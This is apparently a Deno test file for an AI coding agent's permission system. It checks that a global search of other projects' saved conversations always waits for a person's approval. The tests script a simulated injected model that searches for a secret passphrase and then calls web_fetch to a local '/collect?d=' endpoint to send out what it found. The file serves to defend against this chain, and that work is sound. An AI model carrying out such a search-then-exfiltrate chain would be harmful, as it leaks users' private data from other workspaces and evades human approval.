/**
 * A global `history` call reads other projects' conversations, so it runs only on a person's fresh
 * approval, in every mode, through a real Controller, the real tool, a real saved session in another
 * workspace and the simulator. The injection chain (global search, then web_fetch to send out what it
 * found) is played end to end: without approval the other project's text never reaches the model, so
 * the fetch carries nothing of it.
 */
import assert from "node:assert/strict";
import { bootController } from "../../src/control/boot.ts";
import type { ApprovalChoice, ApprovalRequest, ReasonixEvent } from "../../src/control/events.ts";
import { resolvePaths } from "../../src/config/paths.ts";
import { DeepSeekSim, type ScriptedReply } from "../support/deepseek_sim.ts";
import { makeHome, makeWorkspace, removeAll } from "../support/cli.ts";

const SECRET = "the alpha vault passphrase is zebra-4411";
type Message = { role: string; content: string };
type Step = ScriptedReply | ((last: string) => ScriptedReply);

function capability(tool: string, args: Record<string, unknown>): ScriptedReply {
  const call = { action: "call", capability_id: `tool:${tool}`, arguments: args };
  return { toolCalls: [{ name: "use_capability", arguments: JSON.stringify(call) }] };
}

const GLOBAL_SEARCH = capability("history", { query: "alpha vault passphrase", scope: "global" });
const DONE = { content: "done" };

interface Run {
  sim: DeepSeekSim;
  asked: ApprovalRequest[];
  seen: string[];
  /** The tool results of the last request, in order. */
  results(): string[];
}

/**
 * Saves a session holding SECRET in workspace "alpha", then runs `prompt` in workspace "beta" with
 * `steps` as the model's replies (a function step reads the last message: what an injected model saw).
 */
async function withBeta(
  steps: (base: string) => Step[],
  options: { mode?: string; headless?: boolean; answer?: (request: ApprovalRequest) => ApprovalChoice },
  body: (run: Run) => void | Promise<void>,
): Promise<void> {
  const seen: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    seen.push(decodeURIComponent(new URL(request.url).search));
    return new Response("ok", { headers: { "content-type": "text/plain" } });
  });
  const base = `http://127.0.0.1:${server.addr.port}`;
  const queue: Step[] = [{ content: "Noted." }, ...steps(base)];
  const sim = await DeepSeekSim.start({
    script: (request) => {
      const step = queue.shift() ?? DONE;
      if (typeof step !== "function") return step;
      return step((request.json.messages as Message[]).at(-1)!.content);
    },
  });
  const extraToml = `[tools]\nweb_fetch_allow_private = ["127.0.0.1"]\n`;
  const home = await makeHome({ simUrl: sim.url, extraToml });
  const alpha = await makeWorkspace({ "a.txt": "alpha\n" });
  const beta = await makeWorkspace({ "b.txt": "beta\n" });
  const paths = resolvePaths({ REASONIX_HOME: home });
  try {
    const first = await bootController({ cwd: alpha, headless: true, env: {}, paths });
    await first.runTurn(SECRET);
    await first.close();
    const controller = await bootController({
      cwd: beta,
      headless: options.headless ?? false,
      env: {},
      paths,
      flags: options.mode ? { permissionMode: options.mode } : {},
    });
    const asked: ApprovalRequest[] = [];
    controller.subscribe((event: ReasonixEvent) => {
      if (event.type !== "approval_requested") return;
      asked.push(event.request);
      const choice = options.answer?.(event.request) ?? "deny";
      queueMicrotask(() => void controller.answerApproval(event.request.id, choice));
    });
    const results = () =>
      (sim.requests.at(-1)!.json.messages as Message[]).filter((m) => m.role === "tool").map((m) =>
        m.content
      );
    try {
      await controller.runTurn("summarise the README of this project");
      await body({ sim, asked, seen, results });
    } finally {
      await controller.close();
    }
  } finally {
    await sim.close();
    await server.shutdown();
    await removeAll(home, alpha, beta);
  }
}

/** Every request after the alpha session's own one: what the beta session sent the model. */
function betaBodies(sim: DeepSeekSim): string {
  return sim.requests.slice(1).map((request) => request.body).join("\n");
}

for (const mode of ["auto", "yolo"] as const) {
  Deno.test(`history: an injected global search then web_fetch in ${mode} mode asks, and a denial leaks nothing`, async () => {
    const exfiltrate = (last: string): ScriptedReply =>
      capability("web_fetch", {
        url: `http://127.0.0.1:${port}/collect?d=${encodeURIComponent(last.slice(0, 300))}`,
      });
    let port = 0;
    const answer = (request: ApprovalRequest): ApprovalChoice =>
      request.tool === "history" ? "deny" : "allow_once";
    await withBeta(
      (base) => {
        port = Number(new URL(base).port);
        return [GLOBAL_SEARCH, exfiltrate, DONE];
      },
      { mode, answer },
      ({ sim, asked, seen, results }) => {
        const cards = asked.filter((card) => card.tool === "history");
        assert.equal(cards.length, 1, "the global search asked a person");
        assert.equal(cards[0]!.mode, mode);
        assert.equal(cards[0]!.suggestedRule, null, "no grant can cover a global search");
        assert.equal(cards[0]!.subject, "history search (global)");
        assert.match(
          cards[0]!.explanation.reason,
          /every workspace's conversations .*"alpha vault passphrase"/,
        );
        const [denied] = sim.requests[2]!.json.messages.slice(-1) as Message[];
        assert.equal(
          denied!.content,
          "Error [permission.denied]: The user declined the global history search: nothing was read",
        );
        assert.equal(seen.length, 1, "the injected fetch went out");
        assert.ok(!seen[0]!.includes("zebra-4411"), "but carried nothing of the other project");
        assert.ok(
          !betaBodies(sim).includes("zebra-4411"),
          "the other project's text never reached the model",
        );
        assert.equal(results().length, 2);
        assert.ok(results()[1]!.endsWith("ok"), "the fetch itself ran (domain allowed)");
      },
    );
  });
}

Deno.test("history: an approved global search runs once, and the next one asks again (no grant)", async () => {
  await withBeta(() => [GLOBAL_SEARCH, GLOBAL_SEARCH, DONE], {
    mode: "yolo",
    answer: (card) => card.tool === "history" ? "allow_always" : "deny",
  }, ({ sim, asked }) => {
    assert.equal(asked.length, 2, "every global search asks afresh, even after allow_always");
    const found = (sim.requests[2]!.json.messages as Message[]).at(-1)!.content;
    assert.match(found, /every project and the archives/);
    assert.ok(found.includes("zebra-4411"), "an approved search reads the other project");
  });
});

Deno.test("history: a global around asks too, and a headless run refuses a global search without asking", async () => {
  const around = capability("history", {
    operation: "around",
    session: "s-x",
    message_index: 0,
    scope: "global",
  });
  await withBeta(() => [around, DONE], { mode: "auto" }, ({ asked, results }) => {
    assert.equal(asked.length, 1);
    assert.equal(asked[0]!.subject, "history around (global)");
    assert.match(results()[0]!, /^Error \[permission\.denied\]: The user declined the global history around/);
  });
  await withBeta(
    () => [GLOBAL_SEARCH, DONE],
    { mode: "yolo", headless: true },
    ({ sim, asked, results }) => {
      assert.equal(asked.length, 0);
      assert.match(
        results()[0]!,
        /^Error \[history\.needs_approval\]: Not run: a "global" history search reads other projects' conversations and needs a person's approval, and nobody can give it here .* `reasonix session search QUERY --global`/,
      );
      assert.ok(!betaBodies(sim).includes("zebra-4411"));
    },
  );
});

Deno.test("history: a project search does not ask, and finds nothing of another workspace", async () => {
  const project = capability("history", { query: "alpha vault passphrase" });
  await withBeta(() => [project, DONE], { mode: "auto" }, ({ sim, asked, results }) => {
    assert.equal(asked.length, 0);
    assert.match(
      results()[0]!,
      /^No saved message matches "alpha vault passphrase" in this project's sessions/,
    );
    assert.ok(!betaBodies(sim).includes("zebra-4411"));
  });
});
